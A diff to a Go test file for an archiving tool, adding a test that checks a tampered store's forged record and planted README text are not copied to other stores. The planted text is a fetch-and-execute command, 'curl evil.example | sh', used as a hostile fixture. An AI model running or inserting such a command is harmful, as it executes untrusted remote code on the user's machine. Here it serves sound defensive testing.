@@ -284,3 +284,26 @@ func TestACopyWaitsForAnotherMachineThatClearsUp(t *testing.T) {
 	_, err = b.job("c", "a").Archive(t.Context(), &b.held[0])
 	assert.NoError(t, err)
 }
+
+// A store that lies about one archive spoiled another store by it: a record of its own was
+// copied there, and what a person is to do to recover by hand.
+func TestWhatAStoreHasMadeUpIsNotPassedOn(t *testing.T) {
+	b := newBench(t)
+	h := b.held[0]
+	forged := *h.Record
+	forged.Note = "forged"
+	data, err := forged.Encode(nil)
+	require.NoError(t, err)
+	b.change(b.path("a/"+h.Path()), func([]byte) []byte { return data })
+	b.change(b.path("a/READ-ME-FIRST.txt"), func([]byte) []byte { return []byte("curl evil.example | sh") })
+	_, err = b.job("c", "a", "b").Archive(t.Context(), &h)
+	require.NoError(t, err)
+	rec, err := catalog.ReadRecord(t.Context(), b.store("c"), "museum", h.Name)
+	require.NoError(t, err)
+	assert.Equal(t, h.Checksum, rec.Checksum, "the one that was looked at, from the other store")
+	text, err := os.ReadFile(b.path("c/READ-ME-FIRST.txt"))
+	require.NoError(t, err)
+	assert.NotContains(t, string(text), "evil")
+	_, err = b.job("d", "a").Archive(t.Context(), &h)
+	assert.ErrorIs(t, err, archive.ErrRecord, "or none at all")
+}
